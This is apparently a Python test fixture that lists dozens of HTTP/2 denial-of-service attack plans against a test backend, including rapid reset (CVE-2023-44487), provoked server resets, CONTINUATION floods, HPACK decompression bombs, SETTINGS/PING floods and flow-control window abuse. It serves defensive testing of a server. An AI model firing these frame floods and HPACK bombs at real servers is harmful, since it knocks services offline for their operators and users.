"""What attackers of HTTP/2 do, each as a plan (tests.fakes.h2_attacker): bounded in count, and in time by who runs it.

A plan that yields SYNC goes on only when the server has dealt with what was sent, so that what it has begun really
runs. The paths are those of `tests.fakes.counting_backend`.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from tests.fakes.h2_attacker import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    MOST,
    PADDED,
    PIECE,
    PING,
    PRIORITY,
    PRIORITY_UPDATE,
    PUSH_PROMISE,
    SETTINGS,
    SYNC,
    Steps,
    frame,
    get,
    head,
    literal,
    post,
    reset,
    settings,
    streams,
    window_update,
)

Plan = Callable[[], Steps]

WAVE = 100
"""Streams that a server allows at a time."""
FLOOD = 50_000
TABLE_SIZE, MAX_STREAMS, INITIAL_WINDOW, MAX_FRAME = 1, 3, 4, 5


@dataclass(frozen=True)
class Attack:
    """`settings` are the client's; `reads` and `acknowledges`: see Attacker."""

    name: str
    plan: Plan
    settings: tuple[tuple[int, int], ...] = ()
    reads: bool = True
    acknowledges: bool = True


def flood(piece: bytes, count: int, before: bytes = b"", wait: bool = False) -> Plan:
    """The same bytes so many times, some hundreds in each write."""

    def plan() -> Steps:
        if before:
            yield before
        if before and wait:
            yield SYNC
        at_once = max(1, min(count, 500, 65_536 // len(piece)))
        for _ in range(count // at_once):
            yield piece * at_once

    return plan


def rapid_reset(path: bytes = b"/ok", count: int = 20_000) -> Plan:
    """CVE-2023-44487: a request and its end in one write."""

    def plan() -> Steps:
        for first in range(1, 2 * count, 2 * WAVE):
            yield b"".join(get(stream, path) + reset(stream) for stream in streams(WAVE, first))

    return plan


def waves(trigger: Callable[[int], bytes], begin: Callable[[int], bytes] = get, count: int = 50) -> Plan:
    """`count` times a hundred requests that are under way, then for each what ends it."""

    def plan() -> Steps:
        for wave in range(count):
            new = streams(WAVE, 1 + wave * 2 * WAVE)
            yield b"".join(map(begin, new))
            yield SYNC
            yield b"".join(map(trigger, new))
            yield SYNC

    return plan


def never(stream: int) -> bytes:
    return get(stream, b"/never")


def upload(stream: int) -> bytes:
    return post(stream, b"/sink")


def five_bytes(stream: int) -> bytes:
    return post(stream, b"/sink", literal(b"content-length", b"5"))


def heads(block: bytes, count: int = 2000, flags: int = END_HEADERS | END_STREAM) -> Plan:
    """The same header block as one request after the other."""

    def plan() -> Steps:
        for first in range(1, 2 * count, 2 * WAVE):
            yield b"".join(blocks(stream, block, flags) for stream in streams(WAVE, first))
            yield first // 2 + WAVE

    return plan


def blocks(stream: int, block: bytes, flags: int = END_HEADERS | END_STREAM) -> bytes:
    """A header block in as many frames as it takes."""
    pieces = [block[at : at + PIECE] for at in range(0, len(block), PIECE)]
    ends = flags & END_STREAM
    kinds = [HEADERS] + [CONTINUATION] * (len(pieces) - 1)
    framed = [
        frame(kind, ends if kind == HEADERS else 0, stream, piece) for kind, piece in zip(kinds, pieces, strict=True)
    ]
    if flags & END_HEADERS:
        last = len(pieces) - 1
        framed[last] = frame(kinds[last], END_HEADERS | (ends if not last else 0), stream, pieces[last])
    return b"".join(framed)


def bomb(references: int = 16_000) -> Plan:
    """A table entry of nearly 4 KiB, then header blocks of nothing but references to it: 64 MiB for 16 KiB each."""

    def plan() -> Steps:
        yield frame(HEADERS, END_HEADERS | END_STREAM, 1, head() + literal(b"a", b"b" * 4000, 0x40))
        for first in range(3, 1003, 2 * WAVE):
            yield first // 2
            yield b"".join(blocks(stream, head() + b"\xbe" * references) for stream in streams(WAVE, first))

    return plan


def crumbs(count: int, size: int) -> Plan:
    """RFC 9113 8.2.3: every crumb is a field of its own; from the table it costs one byte."""

    def plan() -> Steps:
        yield frame(HEADERS, END_HEADERS | END_STREAM, 1, head() + literal(b"cookie", b"c" * size, 0x40))
        for first in range(3, 4003, 2 * WAVE):
            yield first // 2
            yield b"".join(blocks(stream, head() + b"\xbe" * count) for stream in streams(WAVE, first))

    return plan


def churn(block: bytes) -> Plan:
    """Header blocks that turn the table over thousands of times each."""

    def plan() -> Steps:
        for first in range(1, 1001, 2 * WAVE):
            yield b"".join(blocks(stream, head() + block) for stream in streams(WAVE, first))
            yield first // 2 + WAVE

    return plan


def flap(key: int, first: int, second: int, count: int = FLOOD, before: bytes = b"") -> Plan:
    return flood(settings((key, first)) + settings((key, second)), count // 2, before)


def many(path: bytes, count: int = WAVE, first: int = 1) -> bytes:
    return b"".join(get(stream, path) for stream in streams(count, first))


def tiny_windows() -> Steps:
    """Each byte of an answer costs two frames of the client and one of the server."""
    yield many(b"/big")
    yield SYNC
    for _ in range(200):
        yield b"".join(window_update(stream, 1) for stream in streams(WAVE))
        yield SYNC


def tiny_settings() -> Steps:
    """The window of all streams one byte further with each frame."""
    yield many(b"/big")
    yield SYNC
    for size in range(1, 5000):
        yield settings((INITIAL_WINDOW, size))
        if size % 50 == 0:
            yield SYNC


def beyond_the_window() -> Steps:
    """What was not allowed, to a backend that takes nothing: 64 MiB."""
    yield post(1, b"/stuck")
    for _ in range(4096):
        yield frame(DATA, 0, 1, bytes(PIECE))


def beyond_all_windows() -> Steps:
    """As much as each stream may send, and then more."""
    for stream in streams(WAVE):
        yield post(stream, b"/stuck") + frame(DATA, 0, stream, bytes(PIECE)) * 5


def more_than_allowed() -> Steps:
    """Streams beyond the concurrent ones, again and again (RFC 9113 5.1.2)."""
    for first in range(1, 20_000, 2 * WAVE):
        yield many(b"/never", WAVE, first)


def the_last_stream() -> Steps:
    """RFC 9113 5.1.1: after the highest number there is none, and no lower one may be opened."""
    yield get(MOST)
    yield 1
    yield get(3)


def downwards() -> Steps:
    for stream in range(20_001, 1, -2):
        yield get(stream)


def empty_heads() -> Steps:
    """A head without a single field."""
    for first in range(1, 20_000, 2 * WAVE):
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream) for stream in streams(WAVE, first))
        yield first // 2 + WAVE


def many_blocks() -> Steps:
    """Requests whose heads are spread over empty frames, below every limit of one head."""
    more = 5
    for first in range(1, 20_000, 2 * WAVE):
        yield b"".join(
            frame(HEADERS, END_STREAM, stream, head())
            + frame(CONTINUATION, 0, stream) * more
            + frame(CONTINUATION, END_HEADERS, stream)
            for stream in streams(WAVE, first)
        )
        yield first // 2 + WAVE


def trailers_again() -> Steps:
    """Header blocks after the head that do not end the stream (RFC 9113 8.1)."""
    for first in range(1, 2000, 2 * WAVE):
        new = streams(WAVE, first)
        yield b"".join(post(stream) + frame(HEADERS, END_HEADERS, stream, literal(b"a", b"b")) for stream in new)
        yield first // 2 + WAVE


def updates_for_idle() -> Steps:
    for first in range(1, 2 * FLOOD, 1000):
        yield b"".join(_update(stream) for stream in range(first, first + 1000, 2))


def _update(stream: int, value: bytes = b"u=1") -> bytes:
    return frame(PRIORITY_UPDATE, 0, 0, stream.to_bytes(4, "big") + value)


def updates_for_open() -> Steps:
    """A hundred answers wait; their order changes all the time."""
    yield many(b"/big")
    yield SYNC
    for turn in range(FLOOD // WAVE):
        value = b"u=%d%b" % (turn % 8, b",i" if turn % 3 else b"")
        yield b"".join(_update(stream, value) for stream in streams(WAVE))


def priorities(weight: int = 5) -> Steps:
    for first in range(1, 2 * FLOOD, 1000):
        yield b"".join(
            frame(PRIORITY, 0, stream, (stream - 2 if stream > 2 else 0).to_bytes(4, "big") + b"%c" % weight)
            for stream in range(first, first + 1000, 2)
        )


def closed_streams(trigger: Callable[[int], bytes]) -> Plan:
    """Frames for streams that were answered long ago."""

    def plan() -> Steps:
        yield many(b"/ok")
        yield WAVE
        for _ in range(FLOOD // WAVE):
            yield b"".join(map(trigger, streams(WAVE)))

    return plan


def _entries(count: int) -> bytes:
    return settings(*((0x4000 + number, number) for number in range(count)))


ONE_FIELD = literal(b"x", b"y")
ENTRY = literal(b"a", b"b", 0x40)
HUGE = b"\x7f" + b"\xff" * 8 + b"\x7f"
BAD = frame(HEADERS, END_HEADERS | END_STREAM)

ATTACKS = [
    # resets by the client
    Attack("rapid reset, one write", rapid_reset()),
    Attack("rapid reset, slow paths", rapid_reset(b"/never")),
    Attack("rapid reset, in waves", waves(reset, never)),
    Attack("rapid reset of uploads", waves(reset, upload)),
    Attack("streams beyond the limit", more_than_allowed),
    Attack("streams beyond the limit, no ACK", more_than_allowed, acknowledges=False),
    # resets by the server (CVE-2025-8671)
    Attack("made reset: window +0", waves(lambda stream: window_update(stream, 0), never)),
    Attack("made reset: window too big", waves(lambda stream: window_update(stream, MOST), never)),
    Attack("made reset: DATA after the end", waves(lambda stream: frame(DATA, 0, stream, b"x"), never)),
    Attack("made reset: HEADERS after the end", waves(get, never)),
    Attack("made reset: PRIORITY of 4 bytes", waves(lambda stream: frame(PRIORITY, 0, stream, bytes(4)), never)),
    Attack(
        "made reset: depends on itself",
        waves(lambda stream: frame(PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\0"), never),
    ),
    Attack("made reset: body too long", waves(lambda stream: frame(DATA, 0, stream, b"123456"), five_bytes)),
    Attack("made reset: body too short", waves(lambda stream: frame(DATA, END_STREAM, stream, b"1"), five_bytes)),
    Attack(
        "made reset: pseudo trailers",
        waves(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\x84"), upload),
    ),
    Attack("malformed heads", heads(head() + literal(b"Bad", b"x"))),
    Attack("heads that are refused", heads(head() + ONE_FIELD * 200)),
    Attack("empty HEADERS", empty_heads),
    # header blocks
    Attack("CONTINUATION, empty", flood(frame(CONTINUATION, 0, 1), FLOOD, frame(HEADERS, 0, 1, head()))),
    Attack("CONTINUATION, small", flood(frame(CONTINUATION, 0, 1, ONE_FIELD), FLOOD, frame(HEADERS, 0, 1, head()))),
    Attack(
        "CONTINUATION, 16 KiB",
        flood(frame(CONTINUATION, 0, 1, ONE_FIELD * (PIECE // 5)), 4000, frame(HEADERS, 0, 1, head())),
    ),
    Attack("CONTINUATION, six in each head", many_blocks),
    Attack("HPACK: 4 KiB entry, 16 000 references", bomb()),
    Attack("HPACK: 4 KiB entry, 8 references", bomb(7)),
    Attack("HPACK: table turned over", churn(ENTRY * 4000)),
    Attack("HPACK: size updates", heads(b"\x20\x3f\xe1\x1f" + head())),
    Attack(
        "HPACK: table size 2^31", flood(frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\x3f" + HUGE[1:] + head()), 1)
    ),
    Attack("HPACK: integer overflow", flood(frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\xff" + HUGE[1:]), 1)),
    Attack("HPACK: index of nothing", flood(frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\xff\x70"), 1)),
    Attack("cookie crumbs, too many", crumbs(2000, 1)),
    Attack("cookie crumbs, 90", crumbs(90, 100)),
    Attack("trailers that end nothing", trailers_again),
    # control frames
    Attack("SETTINGS, empty", flood(settings(), FLOOD)),
    Attack("SETTINGS, empty, reads nothing", flood(settings(), FLOOD), reads=False),
    Attack("SETTINGS of 2 000 entries", flood(_entries(2000), 500)),
    Attack("SETTINGS, windows flap", flap(INITIAL_WINDOW, 0, 65_535, FLOOD, many(b"/never"))),
    Attack("SETTINGS, table size flaps", flap(TABLE_SIZE, 0, 4096)),
    Attack("SETTINGS ACK for nothing", flood(frame(SETTINGS, ACK), FLOOD)),
    Attack("PING", flood(frame(PING, 0, 0, bytes(8)), FLOOD)),
    Attack("PING, reads nothing", flood(frame(PING, 0, 0, bytes(8)), 8 * FLOOD), reads=False),
    Attack("PING ACK for nothing", flood(frame(PING, ACK, 0, bytes(8)), FLOOD)),
    Attack("PRIORITY of idle streams", priorities),
    Attack("PRIORITY_UPDATE of idle streams", updates_for_idle),
    Attack("PRIORITY_UPDATE of open streams", updates_for_open, ((INITIAL_WINDOW, 0),)),
    Attack("WINDOW_UPDATE by 1", flood(window_update(0, 1), FLOOD)),
    Attack("WINDOW_UPDATE of closed streams", closed_streams(lambda stream: window_update(stream, 1))),
    Attack("RST_STREAM of closed streams", closed_streams(reset)),
    Attack("RST_STREAM of idle streams", flood(reset(99), FLOOD)),
    Attack("unknown frames, empty", flood(frame(0xEE, 0, 0), FLOOD)),
    Attack("unknown frames, 16 KiB", flood(frame(0xEE, 0, 0, bytes(PIECE)), 4000)),
    Attack("unknown frames on a stream", flood(frame(0xEE, 0xFF, 1, b"x"), FLOOD, get(1, b"/never"))),
    Attack("GOAWAY again and again", flood(frame(GOAWAY, 0, 0, bytes(8)), FLOOD)),
    Attack("PUSH_PROMISE", flood(frame(PUSH_PROMISE, END_HEADERS, 1, bytes(4)), 1, get(1, b"/never"))),
    Attack("a frame of 16 MiB", flood(frame(DATA, 0, 1, bytes(2**24 - 1)), 1, post(1))),
    # bodies
    Attack("DATA, empty", flood(frame(DATA, 0, 1), FLOOD, post(1))),
    Attack("DATA, padding only", flood(frame(DATA, PADDED, 1, b"\xff" + bytes(255)), FLOOD, post(1))),
    Attack("DATA, one byte", flood(frame(DATA, 0, 1, b"x"), FLOOD, post(1))),
    Attack("DATA, one byte, backend takes nothing", flood(frame(DATA, 0, 1, b"x"), FLOOD, post(1, b"/stuck"))),
    Attack("DATA beyond the window", beyond_the_window),
    Attack("DATA beyond all windows", beyond_all_windows),
    Attack("DATA on an idle stream", flood(frame(DATA, 0, 99, b"x"), 1)),
    # windows
    Attack("window of 1 byte, by updates", tiny_windows, ((INITIAL_WINDOW, 0),)),
    Attack("window of 1 byte, by SETTINGS", tiny_settings, ((INITIAL_WINDOW, 0),)),
    # numbers
    Attack("stream 2^31-1", the_last_stream),
    Attack("streams downwards", downwards),
]
